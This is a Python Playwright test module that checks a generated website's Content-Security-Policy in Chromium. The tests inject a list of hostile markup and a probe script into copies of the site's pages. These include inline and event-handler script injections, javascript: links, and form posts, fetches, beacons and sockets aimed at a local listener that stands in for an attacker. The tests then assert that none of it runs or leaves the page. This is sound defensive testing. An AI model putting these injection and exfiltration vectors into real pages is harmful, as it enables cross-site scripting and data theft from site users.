"""What Chromium lets our pages do under their policy, from a server and from a disk."""

import functools
import json
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from generator.web import csp
from tests.browser.conftest import Desk, Hall
from tests.conftest import MACHINERY, PATIENCE, SOURCES, copy_of
from tests.support.project_copies import built

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", event => {
  window.violations.push(event.effectiveDirective);
});
"""
# Markup as a careless template might let it in; {ear} is another host, which listens.
SPOILT = """
<base href="{ear}/base/">
<script>document.documentElement.dataset.inline = "ran"</script>
<script src="{ear}/script.js"></script>
<script src="data:text/javascript,document.documentElement.dataset.data='ran'"></script>
<img src="{ear}/image.png" alt="" onload="document.documentElement.dataset.handler='ran'"
  onerror="document.documentElement.dataset.handler='ran'">
<svg onload="document.documentElement.dataset.drawn='ran'"></svg>
<details open ontoggle="document.documentElement.dataset.toggled='ran'"></details>
<style>body {{ background: url({ear}/background.png) }}</style>
<p id="styled" style="background: url({ear}/attribute.png)">甲</p>
<link rel="stylesheet" href="{ear}/style.css">
<link rel="preload" as="image" href="{ear}/preload.png">
<link rel="manifest" href="{ear}/manifest.json">
<iframe src="{ear}/frame.html" title="x"></iframe>
<iframe srcdoc="<script>parent.document.documentElement.dataset.framed='ran'</script>"></iframe>
<object data="{ear}/object.swf"></object>
<embed src="{ear}/embed.swf">
<video src="{ear}/video.mp4"></video>
<a id="javascript" href="javascript:document.documentElement.dataset.link='ran'">甲</a>
<form id="leak" action="{ear}/form" method="post"><input name="a" value="1"></form>
<form id="away" action="javascript:document.documentElement.dataset.sent='ran'"></form>
<script src="{up}assets/probe.js"></script>
"""
# What a script of our own might do once it was made to: none of it leaves the page.
PROBE = """
"use strict";
window.refused = {};
function attempt(name, act) {
  try {
    window.refused[name] = String(act());
  } catch (error) {
    window.refused[name] = error.name;
  }
}
attempt("eval", () => eval("1 + 1"));
attempt("function", () => Function("return 2")());
attempt("timeout", () => setTimeout("document.documentElement.dataset.timeout = 'ran'"));
attempt("worker", () => {
  new Worker(URL.createObjectURL(new Blob(["fetch('EAR/worker')"])));
});
attempt("beacon", () => navigator.sendBeacon("EAR/beacon", "1"));
attempt("socket", () => { new WebSocket("EAR/socket".replace("http", "ws")); });
attempt("events", () => { new EventSource("EAR/events"); });
attempt("image", () => { new Image().src = "EAR/made.png"; });
attempt("old", () => {
  const request = new XMLHttpRequest();
  request.open("GET", "EAR/old", false);
  request.send();
});
attempt("markup", () => {
  document.createElement("p").innerHTML = "<img src=x onerror='window.refused.made = 1'>";
});
attempt("written", () => { document.createElement("iframe").srcdoc = "<p>"; });
const made = document.createElement("script");
attempt("script", () => { made.textContent = "document.documentElement.dataset.made = 'ran'"; });
document.head.append(made);
import("EAR/module.js").catch(error => { window.refused.module = error.name; });
fetch("EAR/fetch").catch(error => { window.refused.fetch = error.name; });
fetch("OWN/data/").then(
  answer => { window.refused.own = String(answer.status); },
  error => { window.refused.own = error.name; },
);
"""


@dataclass(kw_only=True)
class Ear:
    """Another host: an address, and what it was asked for."""

    url: str = ""
    heard: list[str] = field(default_factory=list)


@contextmanager
def serving(server: ThreadingHTTPServer) -> Iterator[str]:
    """Run a server in a thread of its own, and give its address without a slash."""
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def listening() -> Iterator[Ear]:
    ear = Ear()

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            ear.heard.append(self.path)
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_OPTIONS = do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            """Say nothing: a test shows what it asserts."""

    with serving(Hall(("127.0.0.1", 0), Listener)) as ear.url:
        yield ear


@pytest.fixture
def ear(listening: Ear) -> Ear:
    listening.heard.clear()
    return listening


class Guarded(Desk):
    """A server that sends the policy of pages to read with everything, as a deployment may."""

    def end_headers(self) -> None:
        self.send_header("Content-Security-Policy", csp.READING.header())
        super().end_headers()


@pytest.fixture(scope="module")
def other_site(tmp_path_factory: pytest.TempPathFactory, as_of: datetime) -> Path:
    """The shipped site as the other builder makes it."""
    root = copy_of((*SOURCES, *MACHINERY), tmp_path_factory.mktemp("other") / "project")
    return built(root, as_of.date().isoformat(), "--builder", "zensical")


@pytest.fixture
def watched(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page that notes what its policy refuses, and what it says in the console."""
    context = browser.new_context(locale="zh-CN")
    context.add_init_script(WATCH)
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda told: said.append(f"{page.url}: {told.text}"))
    page.on("pageerror", lambda error: said.append(f"{page.url}: {error}"))
    yield page, said
    context.close()


def everything(site: Path, pages: tuple[str, ...]) -> tuple[str, ...]:
    """The pages and the forms for download, as files of the site."""
    named = (name if name.endswith(".html") else f"{name}index.html" for name in pages)
    files = sorted((site / "downloads").rglob("*.html"))
    # The error page begins its addresses at the root, which a disk has elsewhere.
    return (
        *(name for name in named if name != "404.html"),
        *(path.relative_to(site).as_posix() for path in files),
    )


def visit(page: Page, base: str, names: tuple[str, ...]) -> None:
    """Open each page and hold it to running its scripts without anything refused."""
    for name in names:
        page.goto(base + name)
        if name.startswith("downloads/"):
            assert page.evaluate("document.styleSheets.length") > 0, name
        else:
            assert page.evaluate("document.documentElement.classList.contains('gs-script')"), name
            expect(page.locator(".gs-tools")).to_be_visible()
            assert page.evaluate("getComputedStyle(document.body).display") == "flex", name
        assert page.evaluate("window.violations") == [], name


def test_no_page_does_what_its_policy_refuses(
    watched: tuple[Page, list[str]], address: str, built_site: Path, pages: tuple[str, ...]
):
    page, said = watched
    names = everything(built_site, pages)
    visit(page, address, (*names, "404.html"))
    visit(page, built_site.as_uri() + "/", names)
    assert said == []


@pytest.mark.long
def test_no_page_of_the_other_builder_does_either(
    watched: tuple[Page, list[str]], other_site: Path, pages: tuple[str, ...]
):
    page, said = watched
    names = everything(other_site, pages)
    with serving(Hall(("127.0.0.1", 0), functools.partial(Desk, directory=str(other_site)))) as at:
        visit(page, f"{at}/", names)
    visit(page, other_site.as_uri() + "/", names)
    assert said == []


def find(page: Page) -> None:
    """Search for something and wait for its pages."""
    dialog = page.get_by_role("dialog", name="搜索")
    expect(dialog).to_be_visible()
    dialog.get_by_role("textbox").fill("申报")
    # How long the index takes to be read is for benchmarks to say.
    expect(page.locator(".md-search-result__item").first).to_be_visible(timeout=30_000)
    assert page.evaluate("window.violations") == []


def test_the_search_works_under_the_policy_in_the_page_and_in_the_header(
    watched: tuple[Page, list[str]], built_site: Path
):
    page, said = watched
    with serving(
        Hall(("127.0.0.1", 0), functools.partial(Guarded, directory=str(built_site)))
    ) as at:
        answer = page.goto(f"{at}/")
        assert answer is not None
        assert "frame-ancestors" in answer.headers["content-security-policy"]
        page.get_by_role("button", name="搜索").click()
        find(page)
    assert said == []


def filling(site: Path) -> tuple[str, ...]:
    """The pages that take an applicant's answers, relative to the site."""
    found = (
        path.parent.relative_to(site).as_posix() + "/"
        for path in sorted(site.glob("calls/*/*/index.html"))
        if csp.FILLING.content() in path.read_text(encoding="utf-8").replace("&#39;", "'")
    )
    return tuple(found)


def test_where_answers_are_typed_the_search_opens_beside_the_page(
    watched: tuple[Page, list[str]], address: str, built_site: Path
):
    page, said = watched
    for name in filling(built_site):
        page.goto(address + name)
        expect(page.locator("#gs-search, #gs-search-scripts")).to_have_count(0)
        with page.expect_popup() as opening:
            page.get_by_role("link", name="搜索").click()
        find(opening.value)
        assert page.url == address + name
        assert opening.value.evaluate("window.opener") is None
        opening.value.close()
    page.goto((built_site / filling(built_site)[0] / "index.html").as_uri())
    expect(page.locator("#gs-search-open")).to_be_hidden()
    assert said == []


@pytest.fixture(scope="module")
def spoilt(
    built_site: Path, listening: Ear, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Path, str]]:
    """A copy of the site with hostile markup in two pages, and where it is served."""
    site = tmp_path_factory.mktemp("spoilt") / "site"
    shutil.copytree(built_site, site)
    for name in ("", filling(built_site)[0]):
        path = site / name / "index.html"
        up = "../" * name.count("/")
        body = SPOILT.format(ear=listening.url, up=up)
        text = path.read_text(encoding="utf-8")
        assert text.count("</article>") == 1
        path.write_text(text.replace("</article>", f"{body}</article>"), encoding="utf-8")
    with serving(Hall(("127.0.0.1", 0), functools.partial(Desk, directory=str(site)))) as at:
        probe = PROBE.replace("EAR", listening.url).replace("OWN", at)
        (site / "assets/probe.js").write_text(probe, encoding="utf-8")
        yield site, f"{at}/"


@pytest.mark.parametrize("scheme", ["http", "file"])
@pytest.mark.parametrize("fills", [False, True])
def test_what_gets_into_a_page_neither_runs_nor_leaves_it(
    scheme: str,
    fills: bool,
    watched: tuple[Page, list[str]],
    spoilt: tuple[Path, str],
    ear: Ear,
    built_site: Path,
):
    page, _ = watched
    site, served = spoilt
    name = f"{filling(built_site)[0]}index.html" if fills else "index.html"
    page.goto((served if scheme == "http" else site.as_uri() + "/") + name)
    page.wait_for_function("['module', 'fetch', 'own'].every(name => name in window.refused)")
    page.evaluate("document.getElementById('javascript').click()")
    for form in ("leak", "away"):
        page.evaluate(f"document.getElementById('{form}').submit()")
    page.wait_for_timeout(300)

    marks = page.evaluate("JSON.stringify(document.documentElement.dataset)")
    assert json.loads(marks) == {}
    refused = page.evaluate("window.refused")
    for way in ("eval", "function"):
        assert refused[way] == "EvalError", way
    for way in ("fetch", "module"):
        assert refused[way] == "TypeError", way
    assert refused["old"] == "NetworkError"
    assert "made" not in refused
    assert refused["own"] == ("200" if scheme == "http" and not fills else "TypeError")
    if fills:
        assert {refused[way] for way in ("markup", "written", "script", "timeout")} == {"TypeError"}
    assert page.evaluate("getComputedStyle(document.getElementById('styled')).backgroundImage") == (
        "none"
    )
    assert page.evaluate("getComputedStyle(document.body).backgroundImage") == "none"
    assert page.evaluate("document.baseURI") == page.url
    told = set(page.evaluate("window.violations"))
    assert told >= {"script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr"}
    assert told >= {"img-src", "connect-src", "frame-src", "object-src", "base-uri", "form-action"}
    assert ear.heard == []


def test_the_other_host_would_have_heard(watched: tuple[Page, list[str]], ear: Ear, tmp_path: Path):
    # Without a policy the very same page tells everything: the test above is not deaf.
    page, _ = watched
    (tmp_path / "assets").mkdir()
    probe = PROBE.replace("EAR", ear.url).replace("OWN", ear.url)
    (tmp_path / "assets/probe.js").write_text(probe, encoding="utf-8")
    head = "<!doctype html><html lang='zh'><title>甲</title>"
    body = SPOILT.format(ear=ear.url, up="").replace("<base", "<x-base")
    (tmp_path / "index.html").write_text(head + body, encoding="utf-8")
    with serving(Hall(("127.0.0.1", 0), functools.partial(Desk, directory=str(tmp_path)))) as at:
        page.goto(f"{at}/")
        page.wait_for_function("'own' in window.refused")
        page.wait_for_timeout(300)
    marks = json.loads(page.evaluate("JSON.stringify(document.documentElement.dataset)"))
    assert {"inline", "data", "handler", "drawn", "timeout", "made", "framed"} <= marks.keys()
    for way in ("script.js", "image.png", "style.css", "frame.html", "fetch", "old", "beacon"):
        assert f"/{way}" in ear.heard, way


def test_the_form_that_stands_alone_asks_nobody_and_complains_of_nothing(
    watched: tuple[Page, list[str]], built_site: Path, tmp_path: Path
):
    page, said = watched
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for path in sorted((built_site / "downloads").rglob("*.html")):
        alone = Path(shutil.copy(path, tmp_path / "申报书.html"))
        asked.clear()
        page.goto(alone.as_uri())
        page.wait_for_load_state("networkidle")
        assert asked == [alone.as_uri()]
        assert page.evaluate("window.violations") == []
    assert said == []
